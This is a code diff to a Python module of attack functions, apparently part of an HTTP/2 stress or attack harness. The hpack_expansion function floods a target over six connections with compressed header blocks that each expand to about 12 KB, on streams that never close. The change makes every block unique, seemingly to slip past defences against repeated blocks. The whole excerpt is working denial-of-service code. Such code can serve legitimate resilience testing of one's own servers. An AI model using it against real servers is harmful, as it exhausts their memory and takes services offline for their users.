@@ -155,15 +155,20 @@ Attack = Callable[[tuple[str, int], threading.Event], Outcome]
 
 def hpack_expansion(target: tuple[str, int], stop: threading.Event) -> Outcome:
     """Tiny header blocks that decode to ~12 KB each (four references to one large dynamic
-    table entry), on streams that never end, on 6 connections at once."""
+    table entry), on streams that never end, on 6 connections at once. Each block also carries
+    a field of its own (never indexed), so no two blocks are the same bytes."""
     outcome = Outcome()
     peers = [Peer(target, outcome) for _ in range(6)]
     big = [*REQUEST, *([("x-expand", "e" * 3000)] * 4)]
     encoders = [hpack.Encoder() for _ in peers]
+
+    def block(encoder: hpack.Encoder, stream: int) -> bytes:
+        return encoder.encode([*big, hpack.NeverIndexedHeaderTuple("x-seq", str(stream))])
+
     stream = 1
     while not stop.is_set() and not all(p.closed for p in peers):
         for peer, encoder in zip(peers, encoders, strict=True):
-            batch = [headers(stream + 2 * i, encoder.encode(big)) for i in range(50)]
+            batch = [headers(stream + 2 * i, block(encoder, stream + 2 * i)) for i in range(50)]
             peer.send(encode(batch), frames=len(batch))
             peer.poll()
         stream += 100
